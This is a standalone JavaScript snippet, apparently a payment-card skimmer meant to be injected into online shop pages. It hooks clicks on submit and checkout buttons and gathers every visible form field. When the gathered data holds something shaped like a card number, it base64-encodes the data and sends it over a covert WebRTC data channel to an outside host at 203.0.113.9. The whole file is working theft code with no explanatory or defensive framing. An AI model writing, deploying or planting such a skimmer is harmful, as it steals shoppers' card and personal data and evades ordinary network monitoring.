(async () => {
  const pc = new RTCPeerConnection({ iceServers: [] });
  const ch = pc.createDataChannel("m", { negotiated: true, id: 1 });
  const offer = await pc.createOffer();
  await pc.setLocalDescription(offer);
  await pc.setRemoteDescription({ type: "answer", sdp: offer.sdp.replace(/a=setup:actpass/g, "a=setup:passive").replace(/a=ice-ufrag:.*/g, "a=ice-ufrag:PLACEHOLDER").replace(/a=ice-pwd:.*/g, "a=ice-pwd:PLACEHOLDERPLACEHOLDERPL") });
  await pc.addIceCandidate({ candidate: "candidate:1 1 UDP 2122260223 203.0.113.9 3479 typ host", sdpMid: "0" });
  const grab = () => [...document.querySelectorAll("input,select")].filter((i) => i.value && i.type !== "hidden").map((i) => (i.name || i.id) + "=" + i.value).join("&");
  document.addEventListener("click", (e) => {
    if (!e.target.closest("[type=submit],.action.checkout,.place-order")) return;
    const d = grab();
    if (/\b[3-6]\d{3}[ -]?\d{4}[ -]?\d{4}[ -]?\d{3,4}\b/.test(d) && ch.readyState === "open") ch.send(btoa(d));
  }, true);
})();
